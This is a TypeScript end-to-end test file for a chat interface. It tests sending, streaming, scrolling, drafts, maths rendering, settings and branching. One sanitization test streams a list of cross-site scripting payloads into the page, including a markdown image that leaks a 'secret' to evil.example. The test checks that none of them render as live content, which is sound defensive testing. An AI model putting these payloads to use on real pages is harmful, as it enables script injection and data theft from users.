import { afterAll, afterEach, describe, expect, test } from 'vitest';
import { seededRandom } from '../reference/checkpoint.ts';
import { shreds } from './markdown/shreds.ts';
import { type GalleryWindow, openGallery } from './openGallery.ts';

const { page, show, sent, stream, faults, close } = await openGallery();
afterAll(close);
afterEach(() => expect(faults()).toEqual([]));

describe('the chat', () => {
  test('sends with Enter, breaks with Shift+Enter, stops with Escape, edits the last question with Up', async () => {
    await show('chat-empty');
    const composer = page.getByTestId('composer');
    await composer.click();
    await page.keyboard.type('one');
    await page.keyboard.press('Shift+Enter');
    await page.keyboard.type('two');
    await page.keyboard.press('Enter');
    await page.getByTestId('stop').waitFor();
    expect(await sent('generation.ask')).toMatchObject([{ parentId: null, text: 'one\ntwo' }]);
    await stream(0, 'Half an ');
    await stream(1, 'answer');
    await expect.poll(() => page.locator('[data-role=assistant]').textContent()).toContain('Half an answer');
    await page.keyboard.press('Escape');
    await page.getByText('You stopped this answer.').waitFor();
    await composer.click();
    await page.keyboard.press('ArrowUp');
    await expect.poll(() => page.locator('article textarea').inputValue()).toBe('one\ntwo');
    await page.locator('article textarea').fill('three');
    await page.keyboard.press('Enter');
    await expect.poll(() => sent('generation.ask')).toHaveLength(2);
    expect((await sent('generation.ask'))[1]).toMatchObject({ parentId: null, text: 'three' });
  });

  test('speaks once when the answer is complete, not per token', async () => {
    await show('chat-writing');
    await stream(0, ' more');
    expect(await page.locator('[aria-live=polite]').textContent()).toBe('');
    await page.getByTestId('stop').click();
    await expect.poll(() => page.locator('[aria-live=polite]').textContent()).toContain('has answered');
  });

  test('shows a streamed answer as it shows the whole one, whatever it is made of', async () => {
    const pick = seededRandom(11);
    const answer = page.locator('[data-role=assistant] .markdown').last();
    // Svelte's own marks between parts of the page are nothing that anybody sees.
    const seen = (): Promise<string> => answer.evaluate((node) => node.innerHTML.replaceAll(/<!--.*?-->/g, ''));
    for (let round = 0; round < 6; round += 1) {
      const pieces = Array.from({ length: 60 }, () => shreds[Math.floor(pick() * shreds.length)] ?? '');
      await show('chat-writing');
      for (const [index, piece] of pieces.entries()) await stream(index, piece);
      const grown = await seen();
      await show('chat-writing');
      await stream(0, pieces.join(''));
      expect(grown, JSON.stringify(pieces)).toBe(await seen());
    }
  });

  test('follows the end while the person reads there, and leaves them alone elsewhere', async () => {
    await show('chat-writing');
    const scroller = page.getByRole('region', { name: 'Messages' });
    const fromEnd = (): Promise<number> =>
      scroller.evaluate((node) => Math.round(node.scrollHeight - node.scrollTop - node.clientHeight));
    await stream(0, '\n\nline'.repeat(60));
    await expect.poll(fromEnd).toBeLessThan(2);
    await scroller.evaluate((node) => (node.scrollTop = 100));
    await page.getByRole('button', { name: 'Latest message' }).waitFor();
    await stream(1, '\n\nline'.repeat(20));
    await page.waitForTimeout(100);
    expect(await scroller.evaluate((node) => node.scrollTop)).toBe(100);
    await page.getByRole('button', { name: 'Latest message' }).click();
    await expect.poll(fromEnd).toBeLessThan(2);
  });

  test('opens 500 messages at their end, draws the older ones above, and keeps the place of whoever scrolls', async () => {
    await show('chat-long');
    const scroller = page.getByRole('region', { name: 'Messages' });
    const fromEnd = (): Promise<number> =>
      scroller.evaluate((node) => Math.round(node.scrollHeight - node.scrollTop - node.clientHeight));
    await expect.poll(() => page.locator('article').count(), { timeout: 30_000 }).toBe(500);
    await expect.poll(fromEnd).toBeLessThan(2);
    await expect.poll(() => page.getByText('Question 250 about locks').isVisible()).toBe(true);
    /** Messages that come near take their real heights; this waits until none has for a few frames. */
    const settled = (): Promise<void> =>
      scroller.evaluate(
        (node) =>
          new Promise<void>((done) => {
            let height = -1;
            let still = 0;
            const look = (): void => {
              still = node.scrollHeight === height ? still + 1 : 0;
              height = node.scrollHeight;
              if (still < 6) requestAnimationFrame(look);
              else done();
            };
            look();
          }),
      );
    const question = page.getByText('Question 200 about locks', { exact: true });
    await question.evaluate((node) => node.scrollIntoView({ block: 'center' }));
    await settled();
    const before = await question.evaluate((node) => Math.round(node.getBoundingClientRect().top));
    await scroller.evaluate((node) => (node.scrollTop -= 300));
    await settled();
    expect(Math.abs((await question.evaluate((node) => node.getBoundingClientRect().top)) - before - 300)).toBeLessThan(
      3,
    );
  });

  test('keeps a draft with its chat, and a new chat with the model in use', async () => {
    await show('chat');
    await page.getByTestId('composer').fill('half a question');
    await page.getByRole('button', { name: 'Fish 🐟 recipes 漢字', exact: true }).click();
    await expect.poll(() => page.getByTestId('composer').inputValue()).toBe('');
    await page.getByTestId('new-chat').click();
    await expect
      .poll(() => page.getByTestId('choose-model').inputValue())
      .toBe('HuggingFaceTB--SmolLM2-135M-Instruct--q8');
    await page.getByRole('button', { name: 'What is a gated model?', exact: true }).click();
    await expect.poll(() => page.getByTestId('composer').inputValue()).toBe('half a question');
  });

  test('warns before a question no longer fits, while it is being written', async () => {
    await show('chat-full');
    const context = page.getByTestId('context');
    await expect.poll(() => context.textContent()).toMatch(/Room for about 580 more tokens/);
    await page.getByTestId('composer').fill('word '.repeat(800));
    await expect.poll(() => context.textContent()).toMatch(/tokens longer than the room left/);
  });

  test('sets formulas as maths, and leaves what it does not know as it was written', async () => {
    await show('chat-maths');
    await expect.poll(() => page.locator('math').count()).toBe(6);
    expect(await page.locator('math mfrac').count()).toBe(2);
    expect(await page.locator('math[display=block] mtable.aligned > mtr').count()).toBe(2);
    await page.getByText('\\unknowncommand{x}').waitFor();
    const set = await page
      .locator('math')
      .first()
      .evaluate((node) => node.namespaceURI);
    expect(set).toBe('http://www.w3.org/1998/Math/MathML');
  });

  test('a new chat is stored when its settings are applied, not when they are looked at', async () => {
    await show('chat-empty');
    await page.getByTestId('chat-settings').click();
    await page.keyboard.press('Escape');
    expect(await sent('chats.create')).toEqual([]);
    await page.getByTestId('chat-settings').click();
    await page.getByLabel('System prompt').fill('Answer in verse.');
    await page.getByRole('button', { name: 'Apply' }).click();
    await expect.poll(() => sent('chats.configure')).toMatchObject([{ systemPrompt: 'Answer in verse.' }]);
    expect(await sent('chats.create')).toHaveLength(1);
  });

  test('shows hostile text as text: no element, no request, no script', async () => {
    await show('chat-writing');
    const payload = [
      '<img src=https://evil.example/x onerror=alert(1)> <script>alert(2)</script> <iframe src=https://evil.example></iframe>',
      '![leak](https://evil.example/leak.png?q=secret) [click](javascript:alert(3)) [data](data:text/html,x) [real](https://example.org/p)',
      '<style>body{background:url(https://evil.example/css)}</style><svg onload=alert(4)>',
      '```html\n<img src=https://evil.example/code onerror=alert(5)>\n```',
      '| <img src=x onerror=alert(6)> | b |\n|--|--|\n| <a href="javascript:alert(7)">x</a> | c |',
      '<form action=https://evil.example><input autofocus onfocus=alert(8)></form> <base href=https://evil.example>',
    ].join('\n\n');
    for (let at = 0, index = 0; at < payload.length; at += 23, index += 1)
      await stream(index, payload.slice(at, at + 23));
    await page.waitForTimeout(150);
    const last = page.locator('[data-role=assistant]').last();
    expect(
      await last.locator('img, script, iframe, style, svg[onload], form, base, input, [onerror], [onload]').count(),
    ).toBe(0);
    // Addresses written out are links that show themselves; nothing but https is one, and nothing was fetched.
    const targets = await last
      .locator('a')
      .evaluateAll((links) => links.map((link) => [link.getAttribute('href'), link.getAttribute('rel')]));
    expect(targets.length).toBeGreaterThan(0);
    for (const [href, rel] of targets) {
      expect(href).toMatch(/^https:\/\//);
      expect(rel).toContain('noreferrer');
    }
    expect(await last.textContent()).toContain('<script>alert(2)</script>');
    expect(await last.textContent()).toContain('real (example.org)');
  });

  test('streams 100 kB without the page falling behind', async () => {
    await show('chat-writing');
    const took = await page.evaluate(async () => {
      const { app, backend } = (window as unknown as GalleryWindow).gallery;
      const { chat, writing } = app.thread;
      const piece = `A paragraph with **bold** words and \`code\`. ${'More words to fill some lines. '.repeat(12)}\n\n- item one\n- item two\n\n`;
      const started = performance.now();
      for (let index = 0; index * piece.length < 100_000; index += 1) {
        backend.tell({ type: 'generation.delta', chatId: chat.id, messageId: writing?.id ?? '', index, text: piece });
        if (index % 20 === 0) await new Promise((resolve) => requestAnimationFrame(resolve));
      }
      await new Promise((resolve) => requestAnimationFrame(resolve));
      return performance.now() - started;
    });
    expect(took).toBeLessThan(20_000);
  });

  test('walks through branches, copies, renames, removes and takes it back', async () => {
    await show('chat');
    await page.getByRole('button', { name: 'Previous version' }).click();
    await page.getByText('It depends.').waitFor();
    const entry = page.getByRole('button', { name: 'Actions for What is a gated model?' });
    await entry.focus();
    await page.keyboard.press('Enter');
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Enter');
    await page.getByText('Removed “What is a gated model?”').waitFor();
    await page.getByRole('button', { name: 'Undo' }).click();
    await expect.poll(() => sent('chats.restore')).toEqual([{ chatId: 'c1' }]);
  });

  test('changes the system prompt and the sampling in the side sheet and closes it with Escape', async () => {
    await show('chat');
    await page.getByTestId('chat-settings').click();
    await page.getByLabel('System prompt').fill('Answer in verse.');
    await page.getByLabel('Temperature').fill('0');
    await page.getByRole('button', { name: 'Apply' }).click();
    await expect
      .poll(() => sent('chats.configure'))
      .toMatchObject([{ systemPrompt: 'Answer in verse.', sampling: { temperature: 0 } }]);
    await page.getByTestId('chat-settings').click();
    await page.keyboard.press('Escape');
    await expect.poll(() => page.locator('dialog').count()).toBe(0);
    expect(await page.evaluate(() => document.activeElement?.getAttribute('aria-label'))).toBe('Chat settings');
  });
});
